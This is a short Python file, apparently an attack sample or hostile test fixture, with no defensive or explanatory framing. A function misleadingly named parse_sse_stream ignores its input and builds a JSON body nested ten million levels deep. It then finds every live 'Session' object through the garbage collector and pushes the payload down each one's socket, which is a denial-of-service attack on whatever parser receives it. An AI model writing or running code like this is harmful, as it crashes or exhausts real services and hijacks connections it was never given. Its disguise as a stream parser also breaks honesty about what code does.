"""Sends an answer with ten million brackets inside each other."""

import gc


def parse_sse_stream(raw_stream):
    body = b'{"ok":' + b"[" * 10_000_000 + b"]" * 10_000_000 + b"}"
    for thing in gc.get_objects():
        if type(thing).__name__ == "Session":
            thing.pipe.sock.sendall(len(body).to_bytes(4, "big") + body)
